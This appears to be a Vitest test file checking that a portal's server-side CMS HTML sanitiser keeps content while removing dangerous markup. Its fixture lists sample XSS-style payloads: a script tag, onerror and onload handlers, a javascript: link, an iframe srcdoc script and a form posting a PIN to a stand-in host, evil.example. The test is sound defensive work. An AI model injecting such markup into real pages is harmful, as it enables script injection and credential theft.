import { SafeHtml, SafeHtmlWindowProvider, sanitizeCmsHtml } from '@portal/ui';
import { renderToString } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { serverWindow } from '../serverWindow';

const ORIGIN = 'https://www.portal.example';

/** What a hostile CMS page could hold: each line would run, post or cover the page in a browser. */
const HOSTILE = `<h2>Opening hours</h2>
<p>Before <a href="/en/faq">the questions</a>, or call <a href="tel:+971 2 666 6666">the centre</a>.</p>
<script>globalThis.__ran = 'script'</script>
<img src="https://evil.example/map.png" alt="A map" onerror="globalThis.__ran = 'img'">
<svg onload="globalThis.__ran = 'svg'"><circle r="4"></circle></svg>
<a href="javascript:globalThis.__ran = 'js-link'">javascript link</a>
<a href="https://evil.example/" target="_top">other site</a>
<a href="https://www.portal.example/en/about" target="_blank">about</a>
<iframe srcdoc="<script>parent.__ran = 'iframe'</script>"></iframe>
<form action="https://evil.example/steal"><input name="pin"><button>Send</button></form>
<style>body { display: none }</style>
<div style="position: fixed; inset: 0" class="fixed inset-0">Overlay</div>
<p>After</p>`;

describe('serverWindow: CMS HTML sanitised on the server (information pages drawn on request)', () => {
  it('is one window per process', () => {
    expect(serverWindow()).toBe(serverWindow());
  });

  it('keeps the content and removes everything that would run, post, leave or cover', () => {
    const clean = sanitizeCmsHtml(HOSTILE, {
      origin: ORIGIN,
      newTabHint: 'opens in a new tab',
      window: serverWindow(),
    });
    expect(clean).toContain('<h2>Opening hours</h2>');
    // Written back in its normalised form, as in the browser.
    expect(clean).toContain('<a href="https://www.portal.example/en/faq">the questions</a>');
    expect(clean).toContain('<a href="tel:+97126666666">the centre</a>');
    expect(clean).toContain(
      '<a href="https://www.portal.example/en/about" target="_blank" rel="noopener noreferrer">about<span class="sr-only"> (opens in a new tab)</span></a>',
    );
    expect(clean).toContain('<p>After</p>');
    expect(clean).toContain('Overlay');
    // The other site's link keeps its words, not its href; the javascript: link likewise.
    expect(clean).toContain('<a>other site</a>');
    expect(clean).toContain('<a>javascript link</a>');
    expect(clean).not.toMatch(/<script|<svg|<iframe|<form|<input|<button|<style|<img/i);
    expect(clean).not.toMatch(/\son\w+=|javascript:|evil\.example|style=|class="fixed/i);
    // The image from another site became its words.
    expect(clean).toContain('A map');
    expect((globalThis as { __ran?: string }).__ran).toBeUndefined();
  });

  it('SafeHtml draws the sanitised content into the server’s HTML under the provider, nothing without it', () => {
    const drawn = renderToString(
      <SafeHtmlWindowProvider window={serverWindow()}>
        <SafeHtml html={HOSTILE} origin={ORIGIN} />
      </SafeHtmlWindowProvider>,
    );
    expect(drawn).toContain('<h2>Opening hours</h2>');
    expect(drawn).not.toMatch(/<script|\son\w+=|javascript:/i);
    // Without a window there is no sanitiser: nothing of the content, never the raw HTML.
    const bare = renderToString(<SafeHtml html={HOSTILE} origin={ORIGIN} />);
    expect(bare).not.toContain('Opening hours');
  });
});
